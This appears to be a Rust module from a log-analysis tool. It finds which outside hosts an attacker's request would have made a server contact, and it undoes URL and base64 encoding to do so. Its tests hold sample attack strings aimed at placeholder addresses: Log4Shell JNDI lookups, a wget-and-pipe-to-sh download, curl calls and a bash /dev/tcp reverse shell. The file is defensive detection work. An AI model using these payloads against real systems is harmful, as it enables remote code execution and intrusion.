//! Whom would a server have called, had it done what was sent?
//!
//! Only what the peer sent is looked at, with its encodings undone: a log line also names the proxy, the server behind
//! it, the peer itself.

use std::net::IpAddr;
use std::sync::OnceLock;

use regex::Regex;
use tripoint_model::address::canonical;

use crate::entry::{Entry, Said};
use crate::views::Views;

/// Addresses and hosts that are kept of one entry; those behind a scheme first.
pub const AIMS_MAX: usize = 8;
/// As much of a message as is looked at, bytes.
const TEXT_BYTES_MAX: usize = 16 << 10;

/// Addresses in canonical form and names in lower case, each once.
pub fn of(entry: &Entry<'_>) -> Vec<String> {
    let text = match &entry.said {
        Said::Request(request) => [
            request.target.as_ref(),
            request.referer.as_ref(),
            request.agent.as_ref(),
            request.user.as_ref(),
            request.headers.as_ref(),
            request.body.as_ref(),
        ]
        .join("\n"),
        Said::Text(text) => without_upstream(text),
        Said::LogIn(log_in) => log_in.user.to_string(),
    };
    let views = Views::of(tripoint_model::text::truncate(&text, TEXT_BYTES_MAX).0);
    let [behind_scheme, bare] = expressions();
    let mut aims: Vec<String> = Vec::new();
    for expression in [behind_scheme, bare] {
        for view in views.iter() {
            let found = expression.captures_iter(view).filter_map(|found| aim(found.get(1)?.as_str()));
            for aim in found {
                if aims.len() < AIMS_MAX && !aims.contains(&aim) {
                    aims.push(aim);
                }
            }
        }
    }
    aims
}

/// nginx' error log says to whom it passed the request.
fn without_upstream(text: &str) -> String {
    match text.split_once(", upstream: \"") {
        Some((before, rest)) => format!("{before}{}", rest.split_once('"').map_or("", |(_, after)| after)),
        None => text.to_owned(),
    }
}

fn aim(host: &str) -> Option<String> {
    let bare = host.trim_start_matches('[').trim_end_matches(']').trim_matches('.');
    if let Ok(address) = bare.parse::<IpAddr>() {
        return Some(canonical(address).to_string());
    }
    let is_name = bare.contains('.') && bare.bytes().any(|byte| byte.is_ascii_alphabetic());
    is_name.then(|| bare.to_owned())
}

/// Behind `//`, with a log-in or without, and behind `/dev/tcp/`; and addresses that stand alone.
fn expressions() -> &'static [Regex; 2] {
    static MADE: OnceLock<[Regex; 2]> = OnceLock::new();
    MADE.get_or_init(|| {
        [
            r"(?://|/dev/(?:tcp|udp)/)(?:[^\s/@\x22'<>]{0,64}@)?(\[[0-9a-f:.]{2,45}\]|[a-z0-9](?:[a-z0-9.-]{1,250}))",
            r"(?:^|[^0-9.a-z])([0-9]{1,3}(?:\.[0-9]{1,3}){3})(?:[^0-9.]|\.?$)",
        ]
        .map(|text| Regex::new(text).unwrap_or_else(|error| panic!("{error}")))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::log::FORMATS;
    use crate::stamp::Clock;

    fn aims(line: &str) -> Vec<String> {
        let clock = Clock::at("2026-06-15T12:00:00Z".parse().unwrap());
        let entry = FORMATS.iter().find_map(|format| format.read(line, &clock)).unwrap();
        of(&entry)
    }

    fn request(target: &str) -> Vec<String> {
        aims(&format!(
            "198.51.100.7 - - [10/Jun/2026:13:55:36 +0000] \"GET {target} HTTP/1.1\" 404 12 \"-\" \"curl/8.1\""
        ))
    }

    #[test]
    fn what_would_be_called_is_found_in_every_encoding() {
        for target in [
            "/?x=${jndi:ldap://203.0.113.66:1389/a}",
            "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D",
            "/?x=%253Bcurl%2520203.0.113.66%252Fx",
            "/?x=;wget+http://user:pw@203.0.113.66/x|sh",
            "/?x=;bash+-i+>%26+/dev/tcp/203.0.113.66/4444",
            "/?x=[::ffff:203.0.113.66]//[::ffff:203.0.113.66]/",
            // wget http://203.0.113.66/a
            "/?x=d2dldCBodHRwOi8vMjAzLjAuMTEzLjY2L2E=",
        ] {
            assert_eq!(request(target), ["203.0.113.66"], "{target}");
        }
        assert_eq!(request("/?x=${jndi:ldap://C2.Example/a}"), ["c2.example"]);
        assert!(request("/?v=1.2.3.4.5&t=10:20").is_empty());
    }

    #[test]
    fn who_sent_it_and_who_stands_behind_is_not_meant() {
        let line = "2026/06/10 13:55:36 [error] 7#7: *1 open() \"/srv/a\" failed, client: 198.51.100.7, server: x, request: \"GET /?u=http://203.0.113.66/ HTTP/1.1\", upstream: \"http://192.0.2.9:80/\", host: \"h.example\"";
        let found = aims(line);
        assert!(found.contains(&"203.0.113.66".to_owned()) && !found.contains(&"192.0.2.9".to_owned()), "{found:?}");
        let many: String = (0..100).map(|n| format!(";curl+http://203.0.113.{n}/")).collect();
        assert_eq!(request(&format!("/?x={many}")).len(), AIMS_MAX);
    }
}
